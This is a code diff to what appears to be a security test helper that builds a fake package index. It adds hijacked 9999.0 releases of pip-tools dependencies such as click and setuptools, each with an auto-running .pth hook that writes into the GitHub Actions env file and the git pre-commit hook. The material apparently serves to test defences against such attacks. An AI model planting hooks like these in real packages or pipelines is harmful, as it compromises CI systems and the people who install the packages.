@@ -21,17 +21,28 @@ def index(folder: Path, tools: Path) -> None:
     for name, files in HONEST.items():
         _wheel(folder, name, files)
     _sdist(folder)
+    _fresh_tool(folder)
     for wheel in sorted(tools.glob("*.whl")):
         place = folder / wheel.name.split("-")[0].lower().replace("_", "-")
         place.mkdir(parents=True, exist_ok=True)
         shutil.copy(wheel, place / wheel.name)
 
 
-def _wheel(folder: Path, name: str, files: dict[str, str]) -> None:
-    stem = f"{name}-1.0"
+def _fresh_tool(folder: Path) -> None:
+    """A newer release of what pip-tools requires, taken over: a start-up hook that writes where only root can."""
+    hook = (
+        "import os; [open('/github/' + name, 'a').write('zz-tool') for name in ('file_commands/env', "
+        "'workspace/.git/hooks/pre-commit') if os.access('/github/file_commands', os.W_OK)]\n"
+    )
+    for name in ("click", "build", "packaging", "pyproject-hooks", "wheel", "setuptools"):
+        _wheel(folder, name, {"zz_tool.pth": hook}, "9999.0")
+
+
+def _wheel(folder: Path, name: str, files: dict[str, str], version: str = "1.0") -> None:
+    stem = f"{name.replace('-', '_')}-{version}"
     whole = {
         **files,
-        f"{stem}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
+        f"{stem}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
         f"{stem}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: zz\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
     }
     whole[f"{stem}.dist-info/RECORD"] = "".join(f"{path},,\n" for path in [*whole, f"{stem}.dist-info/RECORD"])
